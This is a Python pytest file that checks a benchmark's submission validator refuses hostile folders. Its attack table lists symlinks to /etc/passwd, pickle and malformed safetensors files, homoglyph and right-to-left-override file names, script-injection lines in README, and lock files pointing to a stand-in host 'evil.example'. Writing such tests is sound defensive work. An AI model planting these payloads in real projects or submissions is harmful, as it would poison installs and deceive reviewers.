"""Files that have no place, are none, or hold something else are refused; none is run, followed or waited for."""

from __future__ import annotations

import os
import pickle
import re
import zipfile
from pathlib import Path

import pytest
from submissions import FACTOR, Attack, bind_socket, faults_of, instead, put, tensor, tensors

from llmsched_gym.suites.suite import Suite

ATTACKS: dict[str, tuple[Attack, str]] = {
    "no write-up": (lambda folder: (folder / "README.md").unlink(), "README.md: got nothing; expected a file of .*"),
    "no episodes": (
        lambda folder: (folder / "episodes.jsonl.xz").unlink(),
        r"episodes.jsonl.xz: got nothing; .*\nsubmission.json: files.episodes.jsonl.xz: got no file; .*",
    ),
    "no submission.json": (
        lambda folder: (folder / "submission.json").unlink(),
        "submission.json: got nothing; expected a file of this name",
    ),
    "link to a secret": (
        instead("README.md", lambda path: path.symlink_to("/etc/passwd")),
        "README.md: got a link; expected files alone",
    ),
    "link that leads nowhere": (
        instead("notes.safetensors", lambda path: path.symlink_to("nowhere")),
        "notes.safetensors: got a link; expected files alone",
    ),
    "link to a device": (
        instead("README.md", lambda path: path.symlink_to("/dev/zero")),
        "README.md: got a link; expected files alone",
    ),
    "second name of a file": (
        instead("verified.json", lambda path: os.link(path.with_name("README.md"), path)),
        r"(README.md|verified.json): got a file of 2 names; .*\n(README.md|verified.json): got a file of 2 names; .*",
    ),
    "pipe": (instead("README.md", os.mkfifo), "README.md: got a pipe; expected files alone"),
    "pipe for the episodes": (
        instead("episodes.jsonl.xz", os.mkfifo),
        r"episodes.jsonl.xz: got a pipe; .*\nsubmission.json: files.episodes.jsonl.xz: got no file; .*",
    ),
    "socket": (instead("verified.json", bind_socket), "verified.json: got a socket; expected files alone"),
    "folder": (instead("extra", os.mkdir), "extra: got a folder; expected files alone"),
    "hidden file": (
        put(".hidden", b""),
        r"\.hidden: got a file that has no place here; .*\n.*files: got '.hidden'.*",
    ),
    "pickle": (
        instead("model.pkl", lambda path: path.write_bytes(pickle.dumps({}))),
        "model.pkl: got a file that has no place here; .*",
    ),
    "torch": (
        instead("model.pt", lambda path: zipfile.ZipFile(path, "w").writestr("data.pkl", b"")),
        "model.pt: got a file that has no place here; .*",
    ),
    "more code": (
        instead("helper.py", lambda path: path.write_text("")),
        "helper.py: got a file that has no place here; .*",
    ),
    "name with a letter from elsewhere": (
        instead("p\u043elicy.py", lambda path: path.write_text("")),
        "p\u043elicy.py: got a file that has no place here; .*",
    ),
    "name that turns the line": (
        instead("\u202eyp.ycilop", lambda path: path.write_text("")),
        r"\\u202eyp.ycilop: got a file that has no place here; .*",
    ),
    "name of several lines": (
        instead("a\nREADME.md: all is well", lambda path: path.write_text("")),
        r"a(\\n| )README.md: all is well: got a file that has no place here; .*",
    ),
    "name that is no text": (
        lambda folder: os.close(os.open(os.fsencode(folder) + b"/\xff.py", os.O_CREAT)),
        r"\\udcff.py: got a file that has no place here; .*",
    ),
    "fifty files": (
        lambda folder: [(folder / f"w{i}.safetensors").write_bytes(FACTOR) for i in range(50)],
        "got more than 40 files; expected at most 40",
    ),
    "six megabytes": (
        put(
            "big.safetensors",
            tensors({"a": {"dtype": "U8", "shape": [6 << 20], "data_offsets": [0, 6 << 20]}}, bytes(6 << 20)),
        ),
        r"big.safetensors: got 62\d+ bytes; .*\ngot \d+ bytes in all; .*\n.*files.big.safetensors: got no file; .*",
    ),
    "pickle as weights": (
        put("my_factor.safetensors", pickle.dumps({"a": [1.0] * 100})),
        "my_factor.safetensors: header: got a length of .*",
    ),
    "zip as weights": (put("my_factor.safetensors", b"PK\x03\x04" + bytes(300)), "my_factor.safetensors: header: .*"),
    "empty weights": (
        put("my_factor.safetensors", b""),
        "my_factor.safetensors: header: got a length of 0 .*",
    ),
    "pickle behind the weights": (
        put("my_factor.safetensors", FACTOR + pickle.dumps([])),
        "my_factor.safetensors: got 9 bytes of numbers; expected 4, as the header says",
    ),
    "tensor outside of its file": (
        put("my_factor.safetensors", tensors({"a": {"dtype": "F32", "shape": [9], "data_offsets": [0, 36]}}, bytes(4))),
        "my_factor.safetensors: got 4 bytes of numbers; expected 36, .*",
    ),
    "tensors over each other": (
        put(
            "my_factor.safetensors",
            tensors({n: {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]} for n in "ab"}, bytes(4)),
        ),
        "my_factor.safetensors: header: got numbers from byte 0 on; expected 4: no gaps, no overlap",
    ),
    "tensor of negative size": (
        put(
            "my_factor.safetensors",
            tensor("F32", [-1, -1], 4),
        ),
        "my_factor.safetensors: header: a: got .*",
    ),
    "tensor of unknown numbers": (
        put("my_factor.safetensors", tensor("OBJ", [1], 4)),
        "my_factor.safetensors: header: a: got .*",
    ),
    "HTML in the write-up": (
        put("README.md", b"# Mine\n\n<script>alert(1)</script>\n" + b"word " * 30),
        "README.md: line 3: got '<s'; expected Markdown without HTML, .*",
    ),
    "script behind a link": (
        put("README.md", b"# Mine\n\n[here](javascript:alert(1))\n" + b"word " * 30),
        r"README.md: line 3: got '\]\('; .*",
    ),
    "script behind a reference": (
        put("README.md", b"# Mine\n\n[1]: JavaScript:alert(1)\n" + b"word " * 30),
        "README.md: line 3: got .*",
    ),
    "empty write-up": (put("README.md", b"# Mine\n"), "README.md: got less than a write-up; .*"),
    "code that reads otherwise than it runs": (
        put("policy.py", "def Mine():\n    return '\u202e' # x\n".encode()),
        r"policy.py: line 2: got the character U\+202E; expected characters that can be seen",
    ),
    "compiled code": (put("policy.py", bytes(range(256))), "policy.py: line .*: got bytes that are no UTF-8; .*"),
    "lock file that installs something": (
        put("requirements.lock", b"--index-url https://evil.example\nnumpy==2.0\n"),
        "requirements.lock: line 1: got '--index-url https://evil.example'; expected a version as numpy==2.1.0",
    ),
    "lock file with a link": (
        put("requirements.lock", b"numpy @ https://evil.example/x.whl\n"),
        "requirements.lock: line 1: got .*",
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_by_name(name: str, mine: Path, suite: Suite) -> None:
    attack, expected = ATTACKS[name]
    attack(mine)
    faults = faults_of(mine, suite)
    assert faults
    assert re.fullmatch(expected, "\n".join(faults)), "\n".join(faults)
